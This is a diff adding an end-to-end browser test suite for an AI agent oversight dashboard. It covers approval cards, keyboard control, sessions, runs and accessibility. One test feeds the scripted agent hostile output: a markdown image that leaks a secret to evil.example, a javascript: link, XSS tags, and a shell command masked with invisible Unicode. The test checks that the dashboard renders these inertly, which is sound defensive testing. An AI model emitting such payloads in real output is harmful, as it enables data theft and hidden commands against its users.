@@ -1,0 +1,479 @@
+import { readFileSync, writeFileSync } from 'node:fs'
+import { createRequire } from 'node:module'
+import { join } from 'node:path'
+import type { Browser, BrowserContext, Locator, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { hasChromium, logIn, openBrowser, Served, watchErrors, watchOrigins } from './harness.js'
+
+const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+
+/**
+ * The living demo: real server, real terminals, the scripted agent. One browser and one server for all: the tests follow a person through
+ * a day, and what one of them decides the next one finds decided.
+ */
+describe.skipIf(!hasChromium)('the dashboard on the living demo', () => {
+  let served: Served
+  let browser: Browser
+  let context: BrowserContext
+  let page: Page
+  let link: string
+  let errors: string[]
+  let foreign: string[]
+  let demoHome: string
+
+  beforeAll(async () => {
+    served = new Served()
+    const [line, opened] = await Promise.all([
+      served.start(['demo', '--dashboard', '--json', '--speed', '6']),
+      openBrowser(),
+    ])
+    link = line.link
+    demoHome = `${line.directory}/home`
+    browser = opened
+    context = await browser.newContext({ viewport: { width: 1440, height: 900 }, reducedMotion: 'reduce' })
+    foreign = watchOrigins(context, line.address)
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: line.address })
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await served?.close()
+  })
+
+  const newLink = async () =>
+    (JSON.parse(await served.run(['serve', '--link', '--json'], demoHome)) as { link: string }).link
+  const card = (title: RegExp) => page.locator('article.card').filter({ hasText: title })
+
+  /** A card that has stood still for long enough takes a press. */
+  const still = (one: Locator) => one.and(one.page().locator('[data-still=true]')).waitFor()
+
+  it('is entered by a link once; the code leaves the address, and the key cannot be read', async () => {
+    page = await context.newPage()
+    errors = watchErrors(page)
+    await page.goto(link)
+    await page.locator('.shell h1').waitFor()
+    expect(page.url()).toBe(`${served.address}/`)
+    const stored = await page.evaluate(async () => {
+      const database = await new Promise<IDBDatabase>(resolve => {
+        const request = indexedDB.open('signalbox')
+        request.onsuccess = () => resolve(request.result)
+      })
+      const device = await new Promise<{ key: CryptoKey }>(resolve => {
+        const request = database.transaction('device').objectStore('device').get('current')
+        request.onsuccess = () => resolve(request.result)
+      })
+      database.close()
+      const read = await crypto.subtle.exportKey('raw', device.key).then(
+        () => 'read',
+        error => (error as Error).name,
+      )
+      return {
+        isExtractable: device.key.extractable,
+        read,
+        cookies: document.cookie,
+        local: JSON.stringify(localStorage),
+      }
+    })
+    expect(stored).toMatchObject({ isExtractable: false, read: 'InvalidAccessError', cookies: '' })
+    expect(stored.local).not.toContain(link.split('#')[1])
+
+    const second = await browser.newContext()
+    const late = await second.newPage()
+    await late.goto(link)
+    await late.getByText(/not any more, the way in/).waitFor()
+    expect(late.url()).not.toContain('#')
+    await second.close()
+  })
+
+  it('shows what needs a person, and a press decides once and says what became of it', async () => {
+    const edit = card(/src\/cart\.js/)
+    await edit.waitFor()
+    expect(await edit.locator('.part-old').textContent()).toContain('return sum - discountPercent')
+    const allow = edit.getByRole('button', { name: 'Allow once' })
+    const deny = edit.getByRole('button', { name: 'Deny…' })
+    const [left, right] = [(await deny.boundingBox())!, (await allow.boundingBox())!]
+    expect(right.x - (left.x + left.width)).toBeGreaterThanOrEqual(48)
+    expect(Math.min(left.height, right.height)).toBeGreaterThanOrEqual(44)
+    await still(edit)
+    await allow.click()
+    await edit.getByText('applied').waitFor()
+    expect(await edit.locator('.card-end').textContent()).toMatch(/decided by you/)
+  })
+
+  it('takes no press in the first moments of a card', async () => {
+    await page.goto(`${served.address}/`)
+    const shell = card(/rm -rf coverage/)
+    await shell.waitFor()
+    const refused = await shell.evaluate(async element => {
+      // Moved under the finger: whatever was meant, it was not this.
+      const above = document.createElement('div')
+      above.style.height = '80px'
+      element.before(above)
+      element.querySelector<HTMLButtonElement>('.allow')!.click()
+      await new Promise(resolve => setTimeout(resolve, 50))
+      above.remove()
+      return element.querySelector('.card-end') === null
+    })
+    expect(refused).toBe(true)
+    await page.getByText('The card has just moved').waitFor()
+  })
+
+  it('is denied by keyboard alone, with a reason', async () => {
+    await page.goto(`${served.address}/`)
+    const shell = card(/rm -rf coverage/)
+    await shell.waitFor()
+    const count = await page.locator('article.card').count()
+    for (let step = 0; step < count; step++) {
+      await page.keyboard.press('j')
+      if (await shell.evaluate(element => element === document.activeElement)) break
+    }
+    await still(shell)
+    await page.keyboard.press('d')
+    await page.getByRole('dialog').waitFor()
+    await page.keyboard.type('Keep the report, please.')
+    await page.keyboard.press('Control+Enter')
+    await shell
+      .getByText(/applied|decided/)
+      .first()
+      .waitFor()
+    expect(await shell.locator('.card-end').textContent()).toMatch(/decided by you/)
+  })
+
+  it('asks once more when a risky request is allowed by key, and Escape goes back', async () => {
+    await page.goto(`${served.address}/`)
+    await page.keyboard.press('g')
+    await page.keyboard.press('r')
+    await page.locator('h1', { hasText: 'Runs' }).waitFor()
+    await page.keyboard.press('?')
+    await page.getByRole('dialog', { name: 'Keys' }).waitFor()
+    await page.keyboard.press('Escape')
+    await page.getByRole('dialog').waitFor({ state: 'detached' })
+  })
+
+  it('answers a question by choosing', async () => {
+    await page.goto(`${served.address}/`)
+    const question = card(/distant signal/)
+    await question.getByLabel('Double yellow').check()
+    await still(question)
+    await question.getByRole('button', { name: 'Answer' }).click()
+    await question.getByText('applied').waitFor()
+    expect(await question.locator('.card-end').textContent()).toContain('Double yellow')
+  })
+
+  it('a session: terminal beside the conversation, a prompt by keyboard, the keyboard taken and left', async () => {
+    await page.goto(`${served.address}/sessions`)
+    await page.getByRole('link', { name: /a word about parsers/ }).click()
+    await page.locator('.xterm-rows').filter({ hasText: 'What next?' }).waitFor()
+    await page.getByRole('log').getByText('I am a').waitFor()
+    await page.locator('#composer').focus()
+    await page.keyboard.type('Show me a table')
+    await page.keyboard.press('Enter')
+    await page.getByText('Delivered').waitFor()
+    await page.getByRole('log').getByText('Show me a table').waitFor()
+    await page.getByRole('log').getByRole('heading', { name: 'Turn 2' }).waitFor()
+
+    await page.getByRole('button', { name: 'Take input' }).click()
+    await page.getByText('You have the keyboard').waitFor()
+    await page.keyboard.type('typed by hand')
+    await page.locator('.xterm-rows').filter({ hasText: 'typed by hand' }).waitFor()
+    await page.keyboard.press('Control+Shift+Period')
+    expect(await page.evaluate(() => document.activeElement?.closest('.terminal-box') === null)).toBe(true)
+    await page.getByRole('button', { name: 'Leave' }).click()
+    await page.getByText('Watching').waitFor()
+    await page.getByRole('button', { name: 'Plain text' }).click()
+    await page.getByRole('region', { name: 'Terminal as plain text' }).getByText('typed by hand').waitFor()
+  })
+
+  it('a session that works: a prompt waits and is taken back, it is interrupted, explained, stopped', async () => {
+    await page.goto(`${served.address}/sessions`)
+    await page.getByRole('link', { name: /rebuild the timetable/ }).click()
+    await page.getByRole('log').getByText('module by module').waitFor()
+    await page.locator('#composer').fill('and then the other half')
+    await page.getByRole('button', { name: 'Queue' }).click()
+    const held = page.getByRole('list', { name: 'Waiting prompts' })
+    await held.getByText('and then the other half').waitFor()
+    await held.getByRole('button', { name: 'Take this prompt back' }).click()
+    await held.waitFor({ state: 'detached' })
+
+    await page.keyboard.press('Escape')
+    await page.locator('h1').click()
+    await page.keyboard.press('e')
+    const why = page.getByRole('dialog', { name: 'Why it is read so' })
+    await why.getByText('Evidence, highest first').waitFor()
+    expect(await why.locator('table tbody tr').count()).toBeGreaterThan(0)
+    await page.keyboard.press('Escape')
+
+    await page.getByRole('button', { name: 'Interrupt' }).click()
+    await page.locator('.session-head .badge', { hasText: /idle|done/ }).waitFor()
+    await page.getByRole('button', { name: 'More actions' }).click()
+    await page.getByRole('button', { name: 'Stop the session' }).click()
+    await page.getByText('The session has ended').waitFor()
+    await page.getByRole('button', { name: 'Resume' }).first().click()
+    await page.getByText('goes on from an earlier session').waitFor()
+  })
+
+  it('panes: thumbnails with words for what they do and why', async () => {
+    await page.goto(`${served.address}/panes`)
+    await page.locator('.tile .thumb svg text').first().waitFor()
+    const tile = page.locator('.tile').filter({ hasText: 'a word about parsers' })
+    expect(await tile.locator('.badge').textContent()).toMatch(/idle|done|running/)
+    expect(await tile.locator('.tile-why').textContent()).toMatch(/by \w+/)
+    await tile.getByRole('button', { name: /Actions for/ }).click()
+    await page.getByRole('button', { name: 'Hide' }).click()
+    await tile.waitFor({ state: 'detached' })
+    await page.getByRole('button', { name: 'Show 1 hidden' }).click()
+    await tile.waitFor()
+    await tile.locator('.tile-open').click()
+    await page.waitForURL(/\/s\//)
+  })
+
+  it('a run: graph and timeline in their states, a node’s detail, log, and its gate answered in place', async () => {
+    await page.goto(`${served.address}/runs`)
+    await page.getByRole('button', { name: 'waiting' }).click()
+    await page.getByRole('link', { name: /Say what changed/ }).click()
+    await page.locator('.graph .node.waiting').waitFor({ timeout: 60_000 })
+    await page.locator('.graph .node.success', { hasText: 'Plan' }).click()
+    await page.getByText('Went on to').waitFor()
+    expect(page.url()).toContain('node=plan')
+    await page.getByRole('tab', { name: 'Log' }).click()
+    await page.locator('.log').getByText('node.finished').first().waitFor()
+    const gate = card(/Approve the plan/).first()
+    await gate.getByLabel('Approve').check()
+    await still(gate)
+    await gate.getByRole('button', { name: 'Answer' }).click()
+    await page.locator('.page-head .badge', { hasText: 'completed' }).waitFor({ timeout: 60_000 })
+    await page.getByRole('tab', { name: 'Timeline' }).click()
+    expect(await page.locator('.gantt li').count()).toBeGreaterThanOrEqual(4)
+  })
+
+  it('a run is cancelled by keyboard', async () => {
+    await page.goto(`${served.address}/runs?status=running`)
+    await page.getByRole('link', { name: /Discounts/ }).focus()
+    await page.keyboard.press('Enter')
+    const cancel = page.getByRole('button', { name: 'Cancel' })
+    await cancel.focus()
+    await page.keyboard.press('Enter')
+    await page.locator('.page-head .badge', { hasText: 'cancelled' }).waitFor()
+    await page.getByRole('button', { name: 'Fork', exact: true }).click()
+    await page.getByRole('dialog', { name: 'Fork this run' }).waitFor()
+    await page.keyboard.press('Escape')
+  })
+
+  it('replay: a moment can be scrubbed to, linked, and says what was thought then', async () => {
+    await page.goto(`${served.address}/sessions?show=all`)
+    await page.getByRole('link', { name: /fix the failing test/ }).click()
+    await page.getByRole('link', { name: 'Replay' }).first().click()
+    await page.getByRole('slider', { name: 'Moment' }).waitFor()
+    await page.getByRole('button', { name: 'Next decision' }).click()
+    await page.locator('.xterm-rows').filter({ hasText: 'May I make this change' }).waitFor()
+    await page.getByText('What Signalbox thought').waitFor()
+    expect(page.url()).toMatch(/\?t=\d+/)
+    const at = new URL(page.url()).searchParams.get('t')
+    await page.reload()
+    await page.getByRole('slider', { name: 'Moment' }).waitFor()
+    expect(Math.abs(Number(await page.getByRole('slider', { name: 'Moment' }).inputValue()) - Number(at))).toBeLessThan(
+      51,
+    )
+    await page.getByRole('button', { name: 'Play' }).click()
+    await page.getByRole('button', { name: 'Pause' }).click()
+  })
+
+  it('usage: plots with tables behind them, and CSV', async () => {
+    await page.goto(`${served.address}/usage`)
+    await page.locator('.plot-box canvas').first().waitFor()
+    await page.getByRole('button', { name: 'Table' }).first().click()
+    await page.getByRole('region', { name: 'Cost per day as a table' }).waitFor()
+    await page.getByRole('combobox', { name: 'Split by' }).selectOption('node')
+    await page.getByRole('region', { name: 'Usage by node' }).getByText('plan').waitFor()
+    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'CSV' }).click()])
+    expect(readFileSync(await file.path(), 'utf8')).toMatch(/^day,node,input,output/)
+  })
+
+  it('graphs: a mistake is marked where it is, and a sound graph is drawn', async () => {
+    await page.goto(`${served.address}/graphs`)
+    await page.getByText('valid').waitFor()
+    await page.locator('.graph .node', { hasText: 'implement' }).waitFor()
+    await page.locator('#dot').fill('digraph g {\n  start [shape=Mdiamond]\n  start -> \n}')
+    await page.locator('.gutter .error').first().waitFor()
+    expect(await page.getByRole('button', { name: 'Run it' }).isDisabled()).toBe(true)
+  })
+
+  it('starts a session from the form', async () => {
+    await page.goto(`${served.address}/start`)
+    await page.getByLabel('Agent').selectOption('demo')
+    await page.getByLabel('Name (optional)').fill('begun on the page')
+    await page.getByLabel('First prompt (optional)').fill('hello')
+    await page.getByRole('button', { name: 'Start the session' }).click()
+    await page.locator('h1', { hasText: 'begun on the page' }).waitFor()
+  })
+
+  it('settings, doctor, and how this page looks', async () => {
+    await page.goto(`${served.address}/settings`)
+    await page.getByText('server.port').waitFor()
+    await page.getByRole('link', { name: 'Doctor' }).click()
+    await page.locator('.doctor-line').first().waitFor()
+    await page.getByRole('link', { name: 'This page' }).click()
+    await page.getByRole('button', { name: 'Dark' }).click()
+    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark')
+    await page.getByRole('button', { name: 'System' }).click()
+  })
+
+  it('two browsers race for one request: one decides, the other is told who; a revoked one is out at once', async () => {
+    const other = await browser.newContext({ viewport: { width: 1280, height: 800 }, reducedMotion: 'reduce' })
+    const rival = await logIn(other, await newLink())
+    await page.goto(`${served.address}/start`)
+    await page.getByLabel('Agent').selectOption('demo')
+    await page.getByLabel('Name (optional)').fill('the race')
+    await page.getByLabel('First prompt (optional)').fill('The tests fail. Find out why and fix it.')
+    await page.getByText('Arguments of the agent').click()
+    await page.getByLabel('Arguments, separated by spaces').fill('--scenario tour --speed 10')
+    await page.getByRole('button', { name: 'Start the session' }).click()
+    const mine = card(/src\/cart\.js/)
+    await mine.waitFor()
+    const id = await mine.getAttribute('data-approval')
+    for (const one of [page, rival]) {
+      await one.goto(`${served.address}/a/${id}`)
+      await one.getByRole('button', { name: 'Allow once' }).waitFor()
+    }
+    for (const one of [page, rival]) await still(one.locator('article.card'))
+    await Promise.all([page, rival].map(one => one.getByRole('button', { name: 'Allow once' }).click()))
+    await Promise.all([page, rival].map(one => one.getByText('applied').waitFor()))
+    const told = await Promise.all([page, rival].map(one => one.locator('.toast.bad').count()))
+    expect(told.reduce((sum, count) => sum + count, 0)).toBe(1)
+
+    await page.goto(`${served.address}/settings/people`)
+    const row = page.getByRole('row').filter({ hasText: 'Revoke' })
+    await row.first().getByRole('button', { name: 'Revoke' }).click()
+    await rival.getByText('Login link, or passphrase').waitFor()
+    await other.close()
+  })
+
+  it('what an agent says stays text: nothing is fetched for it, and nothing in a request stays hidden', async () => {
+    const scenario = join(served.directory, 'hostile.json')
+    const hidden = 'echo safe \u202e; ls\u200b -la \u2066'
+    writeFileSync(
+      scenario,
+      JSON.stringify({
+        name: 'hostile',
+        turns: [
+          {
+            steps: [
+              {
+                say: 'Look: ![a picture](https://evil.example/leak.png?secret=1) and [a page](javascript:alert(1)) <img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script>',
+              },
+              { tool: { name: 'Shell', kind: 'shell', command: hidden, permission: true } },
+            ],
+          },
+        ],
+      }),
+    )
+    await page.goto(`${served.address}/start`)
+    await page.getByLabel('Agent').selectOption('demo')
+    await page.getByLabel('First prompt (optional)').fill('go')
+    await page.getByText('Arguments of the agent').click()
+    await page.getByLabel('Arguments, separated by spaces').fill(`--scenario ${scenario} --speed 10`)
+    await page.getByRole('button', { name: 'Start the session' }).click()
+    const asked = page.locator('article.card')
+    await asked.waitFor()
+    expect(await asked.locator('mark').count()).toBeGreaterThan(0)
+    expect(await asked.locator('.request').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
+    expect(await page.locator('.talk').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
+    expect(await page.locator('.talk :is(img, script, iframe)').count()).toBe(0)
+    expect(await page.locator('.talk a[href^="javascript"]').count()).toBe(0)
+    expect(foreign).toEqual([])
+  })
+
+  it('a phone: bottom bar, cards one below the other with the request between the presses', async () => {
+    await page.setViewportSize({ width: 390, height: 844 })
+    await page.goto(`${served.address}/`)
+    await page.locator('.bottom').waitFor()
+    const sideways = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
+    expect(sideways).toBeLessThanOrEqual(0)
+    await page.getByRole('button', { name: 'More', exact: true }).click()
+    await page.getByRole('dialog', { name: 'More' }).getByRole('link', { name: 'Usage' }).click()
+    await page.waitForURL(/\/usage/)
+    await page.setViewportSize({ width: 1440, height: 900 })
+  })
+
+  it('nothing was asked of any other server, and no page failed', () => {
+    expect(foreign).toEqual([])
+    expect(errors).toEqual([])
+  })
+
+  describe('for everybody', () => {
+    const PAGES = [
+      '/',
+      '/sessions?show=all',
+      '/s/1',
+      '/panes',
+      '/runs',
+      '/run',
+      '/replay',
+      '/usage',
+      '/graphs',
+      '/start',
+      '/start?what=run',
+      '/settings',
+      '/settings/doctor',
+      '/settings/people',
+      '/settings/page',
+    ]
+    it.each([1440, 390])('axe finds nothing on any page, in light and in dark, %i px wide', async width => {
+      await page.setViewportSize({ width, height: 900 })
+      await page.goto(`${served.address}/`)
+      await page.evaluate(axeSource)
+      const found: string[] = []
+      for (const path of PAGES) {
+        await visit(await addressOf(path))
+        for (const colorScheme of ['light', 'dark'] as const) {
+          await page.emulateMedia({ colorScheme })
+          // What a page is made of is the same in the dark; its colours are not.
+          const violations = await examine(colorScheme === 'light' ? null : ['color-contrast'])
+          found.push(...violations.map(violation => `${path} ${colorScheme}: ${violation}`))
+        }
+      }
+      expect(found).toEqual([])
+    })
+
+    /** As a link of the page's own does it: without loading everything again. */
+    async function visit(path: string): Promise<void> {
+      await page.evaluate(to => {
+        history.pushState(null, '', to)
+        dispatchEvent(new PopStateEvent('popstate'))
+      }, path)
+      await page.locator('main h1').first().waitFor()
+      await page.locator('.skeleton').first().waitFor({ state: 'detached' })
+    }
+
+    async function addressOf(path: string): Promise<string> {
+      if (path !== '/run' && path !== '/replay' && path !== '/s/1') return path
+      const list = path === '/run' ? '/runs' : '/sessions?show=all'
+      await visit(list)
+      const start = path === '/run' ? '/r/' : '/s/'
+      const href = await page.locator(`main a[href^="${start}"]`).first().getAttribute('href')
+      return path === '/replay' ? href!.replace('/s/', '/replay/') : href!
+    }
+
+    function examine(rules: string[] | null): Promise<string[]> {
+      return page.evaluate(async only => {
+        interface Violation {
+          id: string
+          nodes: { target: unknown[]; failureSummary?: string }[]
+        }
+        const { axe } = globalThis as unknown as {
+          axe: { run(target: object, options: object): Promise<{ violations: Violation[] }> }
+        }
+        const { violations } = await axe.run(
+          { exclude: [['.xterm']] },
+          { resultTypes: ['violations'], ...(only && { runOnly: only }) },
+        )
+        return violations.map(
+          ({ id, nodes }) =>
+            `${id}: ${nodes
+              .slice(0, 3)
+              .map(({ target, failureSummary }) => `${target.join(' ')} ${failureSummary ?? ''}`)
+              .join(' | ')}`,
+        )
+      }, rules)
+    }
+  })
+})
